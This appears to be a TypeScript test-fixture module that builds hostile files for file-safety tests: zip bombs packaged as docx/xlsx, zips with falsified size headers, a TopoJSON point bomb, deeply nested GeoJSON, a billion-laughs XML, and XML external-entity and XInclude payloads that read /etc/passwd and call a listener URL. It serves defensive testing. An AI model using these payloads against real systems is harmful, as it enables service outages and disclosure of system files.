// Hostile files built in code for the file-safety tests: zip bombs (docx, xlsx), zips that lie about their sizes,
// TopoJSON that decodes to millions of points, deep JSON, XML with external entities and billion laughs.
import JSZip from "jszip";

export type HostileZipOptions = {
  kind?: "docx" | "xlsx";
  /** Tiny extra entries, on top of the two a document needs. */
  entries?: number;
  /** One entry of this many MB of the same byte: deflate packs 80 MB into ~80 KB. */
  inflatedMb?: number;
  /** What the zip's headers claim that entry inflates to (a lie when smaller). */
  declaredBytes?: number;
};

const BOMB_ENTRY = { docx: "word/document.xml", xlsx: "xl/worksheets/sheet1.xml" };

/** Writes a 32-bit little-endian size into every header (local and central) of the named entry. */
function declareSize(bytes: Uint8Array, name: string, size: number): void {
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  const nameAt = (offset: number, length: number) =>
    new TextDecoder().decode(bytes.subarray(offset, offset + length));
  for (let i = 0; i + 46 < bytes.length; i++) {
    const signature = view.getUint32(i, true);
    if (signature === 0x04034b50 && nameAt(i + 30, view.getUint16(i + 26, true)) === name)
      view.setUint32(i + 22, size, true);
    if (signature === 0x02014b50 && nameAt(i + 46, view.getUint16(i + 28, true)) === name)
      view.setUint32(i + 24, size, true);
  }
}

/**
 * The zips built so far, by kind, entries and size: deflating 80 MB in JSZip takes ~1.5 s of processor time and the
 * file-safety tests ask for the same bomb ~9 times a run (test workers keep this module between files). Each caller
 * gets a copy, which declareSize may then change.
 */
const built = new Map<string, Promise<Uint8Array>>();

export async function hostileZip(options: HostileZipOptions = {}): Promise<Uint8Array> {
  const kind = options.kind ?? "docx";
  const key = JSON.stringify([kind, options.entries ?? 0, options.inflatedMb ?? 0]);
  let zipped = built.get(key);
  if (!zipped) {
    zipped = buildZip(kind, options);
    built.set(key, zipped);
  }
  const bytes = (await zipped).slice();
  if (options.declaredBytes !== undefined) declareSize(bytes, BOMB_ENTRY[kind], options.declaredBytes);
  return bytes;
}

function buildZip(kind: "docx" | "xlsx", options: HostileZipOptions): Promise<Uint8Array> {
  const zip = new JSZip();
  zip.file("[Content_Types].xml", '<?xml version="1.0"?><Types/>');
  const bomb = BOMB_ENTRY[kind];
  if (options.inflatedMb) zip.file(bomb, new Uint8Array(options.inflatedMb * 1024 * 1024).fill(0x20));
  else zip.file(bomb, "<document/>");
  for (let i = 0; i < (options.entries ?? 0); i++)
    zip.file(`${kind === "docx" ? "word" : "xl"}/media/part${i}.xml`, "<p/>");
  return zip.generateAsync({ type: "uint8array", compression: "DEFLATE", compressionOptions: { level: 9 } });
}

/**
 * A Topology of 30 districts whose every ring names one 1,000-point arc `repeat` times: ~200 KB on disk,
 * 30 × repeat × 1,000 positions once decoded.
 */
export function topologyBomb(repeat = 3_000): string {
  const arc = Array.from({ length: 1_000 }, (_, i) => [30 + (i % 10) / 100, -2 + (i % 7) / 100]);
  const ring = Array.from({ length: repeat }, () => 0);
  const geometries = Array.from({ length: 30 }, (_, d) => ({
    type: "Polygon",
    arcs: [ring],
    properties: { district_code: String(d + 11) },
  }));
  return JSON.stringify({
    type: "Topology",
    arcs: [arc],
    objects: { districts: { type: "GeometryCollection", geometries } },
  });
}

/** A FeatureCollection whose one geometry nests arrays `depth` deep. */
export function deepGeoJson(depth = 100_000): string {
  return `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"district":"Huye"},"geometry":{"type":"Polygon","coordinates":${"[".repeat(depth)}${"]".repeat(depth)}}}]}`;
}

/** Ten levels of ten: a billion "lol"s if a parser expands entities. */
export function billionLaughs(): string {
  const levels = Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`,
  ).join("\n");
  return `<?xml version="1.0"?>\n<!DOCTYPE iati-activities [\n<!ENTITY lol0 "lol">\n${levels}\n]>\n<iati-activities version="2.03"><iati-activity><iati-identifier>&lol9;</iati-identifier></iati-activity></iati-activities>`;
}

/** XML that asks for a DTD and entities from `base` (a listener) and for /etc/passwd. */
export function externalEntityXml(base: string): string {
  return `<?xml version="1.0"?>
<!DOCTYPE iati-activities SYSTEM "${base}/iati.dtd" [
  <!ENTITY % remote SYSTEM "${base}/remote.dtd">
  %remote;
  <!ENTITY passwd SYSTEM "file:///etc/passwd">
  <!ENTITY call SYSTEM "${base}/call">
]>
<iati-activities version="2.03" generated-datetime="2024-01-01T00:00:00Z">
  <iati-activity last-updated-datetime="2024-01-01T00:00:00Z" xml:lang="en" default-currency="EUR">
    <iati-identifier>XE-1&passwd;&call;</iati-identifier>
  </iati-activity>
</iati-activities>`;
}

/** No DOCTYPE, but an XInclude and a schema location pointing at `base`: only a parser that fetches would call. */
export function fetchingXml(base: string): string {
  return `<?xml version="1.0"?>
<iati-activities version="2.03" generated-datetime="2024-01-01T00:00:00Z"
  xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
  xsi:noNamespaceSchemaLocation="${base}/schema.xsd">
  <xi:include href="${base}/include.xml"/>
  <xi:include href="file:///etc/passwd" parse="text"/>
</iati-activities>`;
}
